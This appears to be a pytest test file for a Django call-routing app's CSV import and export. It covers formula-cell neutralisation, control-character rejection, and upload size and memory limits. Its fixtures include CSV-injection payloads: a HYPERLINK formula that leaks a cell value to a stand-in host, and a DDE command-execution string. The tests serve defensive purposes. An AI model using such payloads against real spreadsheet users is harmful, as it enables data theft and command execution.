"""Issue 11, the CSV import and export tried as an attacker and a clumsy operator: formula
cells (finding 9), control characters (10), file size and memory (11)."""

from __future__ import annotations

import csv
import gc
import io
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from rest_framework.test import APIClient

from routing import imports
from routing.models import Did, RouteRule, Tenant
from tests.api import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def api_client(admin_user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(admin_user)
    return client


@pytest.fixture
def alpha() -> Any:
    return factories.carrier(name="Alpha Telecom")


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- 9: formula cells --------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "description": "+1+cmd|' /C calc'!A0",
    "from_display": "@SUM(1+1)",
}


def test_f09_export_neutralises_formula_cells(alpha: Any) -> None:
    tenant = factories.tenant(name="-2+3 Corp")
    factories.route_rule(prefix="331", tenant=tenant, targets=[alpha], **FORMULAS)
    factories.route_rule(prefix="332", name="Plain", description="no formula", targets=[alpha])
    out = io.StringIO()
    assert imports.export_route_rules(out) == 2
    header, *rows = cells_of(out.getvalue())
    exported = [dict(zip(header, row, strict=True)) for row in rows]
    by_prefix = {row["prefix"]: row for row in exported}
    evil = by_prefix["331"]
    # Each free-text cell a spreadsheet would run starts with a quote: shown as text.
    for name, value in FORMULAS.items():
        assert evil[name] == "'" + value
    assert evil["tenant"] == "'-2+3 Corp"
    # Columns whose grammar cannot start a formula are written as they are.
    assert evil["prefix"] == "331" and evil["priority"] == "100"
    assert evil["targets"] == "carrier:Alpha Telecom@0/100"
    assert by_prefix["332"]["name"] == "Plain"
    assert by_prefix["332"]["description"] == "no formula"


def test_f09_dids_export_neutralises_formula_cells() -> None:
    factories.did(number="33123", description="=1+1", tenant=factories.tenant(name="@Acme"))
    out = io.StringIO()
    imports.export_dids(out)
    row = cells_of(out.getvalue())[1]
    assert row[0] == "'@Acme" and row[1] == "33123" and row[5] == "'=1+1"


def test_f09_export_then_import_gives_the_same_values_back(alpha: Any, tmp_path: Path) -> None:
    """The quote an export adds is taken off by the import: a round trip changes nothing,
    even for values that start with quotes themselves."""
    tenant = factories.tenant(name="=Tenant")
    values = [
        FORMULAS["name"],
        "'=already quoted",
        "''-two quotes",
        "'plain quote",
        "it's fine",
        "-",
    ]
    for n, text in enumerate(values):
        factories.route_rule(
            prefix=f"44{n}", tenant=tenant, name=text, description=text, targets=[alpha]
        )
    exported = tmp_path / "routes.csv"
    call_command("export_routes", str(exported), stderr=io.StringIO())
    assert "'''-two quotes" in exported.read_text()
    call_command("import_routes", str(exported), "--replace-scope", stdout=io.StringIO())
    rules = RouteRule.objects.filter(tenant=tenant).order_by("prefix")
    assert [(r.name, r.description) for r in rules] == [(text, text) for text in values]
    assert Tenant.objects.filter(name="=Tenant").exists()
    again = tmp_path / "again.csv"
    call_command("export_routes", str(again), stderr=io.StringIO())
    assert again.read_text() == exported.read_text()


# --- 10: control characters --------------------------------------------------------------------


def test_f10_nul_in_a_csv_cell_is_a_line_and_field_error(alpha: Any) -> None:
    text = "prefix,name,description,targets\n33,ok,fine,carrier:Alpha Telecom\n34,x,a\x00b,\n"
    with pytest.raises(imports.ImportFailed) as info:
        imports.import_route_rules(io.StringIO(text))
    assert [str(e) for e in info.value.errors] == [
        "Line 3, description: Contains the control character U+0000: remove it (only tabs "
        "and line breaks are allowed)."
    ]
    assert not RouteRule.objects.exists()


def test_f10_other_control_characters_in_csv_cells(alpha: Any) -> None:
    world_pbx = factories.pbx(name="main", tenant=factories.tenant(name="Acme"))
    text = f"tenant,number,pbx,description\nAcme,33123,{world_pbx.name},bell\x07\n"
    with pytest.raises(imports.ImportFailed) as info:
        imports.import_dids(io.StringIO(text))
    [error] = info.value.errors
    assert (error.line, error.field) == (2, "description")
    assert "U+0007" in error.message
    # Tabs and line breaks are not control characters here: a multi-line cell keeps them.
    multi = 'prefix,description,targets\n35,"two\nlines\tand a tab",carrier:Alpha Telecom\n'
    imports.import_route_rules(io.StringIO(multi))
    assert RouteRule.objects.get().description == "two\nlines\tand a tab"
    assert not Did.objects.exists()


def test_f10_nul_through_the_api_import_is_a_400(api_client: APIClient, alpha: Any) -> None:
    body = b"prefix,description,targets\n33,a\x00b,carrier:Alpha Telecom\n"
    response = api_client.post(
        "/api/v1/route-rules/import/", {"file": SimpleUploadedFile("r.csv", body)}
    )
    assert response.status_code == 400
    [error] = response.json()["errors"]
    assert (error["line"], error["field"]) == (2, "description")
    assert "U+0000" in error["message"]
    assert not RouteRule.objects.exists()


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/api/v1/tenants/", "name"),
        ("/api/v1/tenants/", "description"),
        ("/api/v1/carriers/", "name"),
        ("/api/v1/route-rules/", "description"),
    ],
)
@pytest.mark.parametrize("character", ["\x00", "\x01", "\x1b", "\x7f"])
def test_f10_control_characters_in_api_text_fields_are_a_400(
    api_client: APIClient, path: str, field: str, character: str
) -> None:
    body: dict[str, Any] = {"name": "Acme", "prefix": "33", field: f"a{character}b"}
    response = api_client.post(path, body, format="json")
    assert response.status_code == 400
    assert response.json() == {
        field: [
            f"Contains the control character U+{ord(character):04X}: remove it (only tabs "
            "and line breaks are allowed)."
        ]
    }


# --- 11: size and memory -----------------------------------------------------------------------


def _rules_csv(count: int, start: int = 0) -> str:
    lines = ["prefix,name,description,targets"]
    lines += [f"5{start + n:07d},rule {n},imported,carrier:Alpha Telecom" for n in range(count)]
    return "\n".join(lines) + "\n"


def test_f11_api_refuses_an_upload_over_the_limit(
    api_client: APIClient, alpha: Any, settings: Any
) -> None:
    settings.C4ROUTER = {**settings.C4ROUTER, "IMPORT_MAX_BYTES": 4096}
    big = _rules_csv(200).encode()
    assert len(big) > 4096
    response = api_client.post(
        "/api/v1/route-rules/import/", {"file": SimpleUploadedFile("big.csv", big)}
    )
    assert response.status_code == 413
    [error] = response.json()["errors"]
    assert error["field"] == "file" and "at most 4,096" in error["message"]
    assert not RouteRule.objects.exists()
    small = _rules_csv(10).encode()
    response = api_client.post(
        "/api/v1/route-rules/import/", {"file": SimpleUploadedFile("small.csv", small)}
    )
    assert response.status_code == 200 and RouteRule.objects.count() == 10


def test_f11_admin_refuses_an_upload_over_the_limit(
    admin_client: Any, alpha: Any, settings: Any
) -> None:
    settings.C4ROUTER = {**settings.C4ROUTER, "IMPORT_MAX_BYTES": 4096}
    response = admin_client.post(
        "/admin/routing/routerule/import-csv/",
        {"file": SimpleUploadedFile("big.csv", _rules_csv(200).encode()), "mode": "add"},
    )
    assert response.status_code == 200  # the form again, with the error
    assert "at most 4,096" in response.content.decode()
    assert not RouteRule.objects.exists()


def _python_peak(text: str) -> int:
    """Peak of Python's allocations (bytes) while one import of `text` runs."""
    gc.collect()
    tracemalloc.start()
    try:
        base, _ = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        imports.import_route_rules(io.StringIO(text), dry_run=True)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak - base


def test_f11_import_memory_does_not_hold_every_row(alpha: Any) -> None:
    """Rows are checked as they are read and wait for the write outside Python's heap: what
    the import keeps per row is its key and id, not the row (2.4 KB per row before)."""
    # Both past CACHE_LIMIT: the per-column caches of repeated cells have stopped growing.
    small, large = imports.CACHE_LIMIT + 500, imports.CACHE_LIMIT * 2 + 500
    # The text itself is the caller's (a file on disk in real use): measured separately.
    small_text, large_text = _rules_csv(small), _rules_csv(large, start=10**6)
    _python_peak(_rules_csv(10, start=2 * 10**6))  # warm-up: imports, first queries
    per_row = (_python_peak(large_text) - _python_peak(small_text)) / (large - small)
    assert per_row < 600, f"{per_row:.0f} bytes per row"
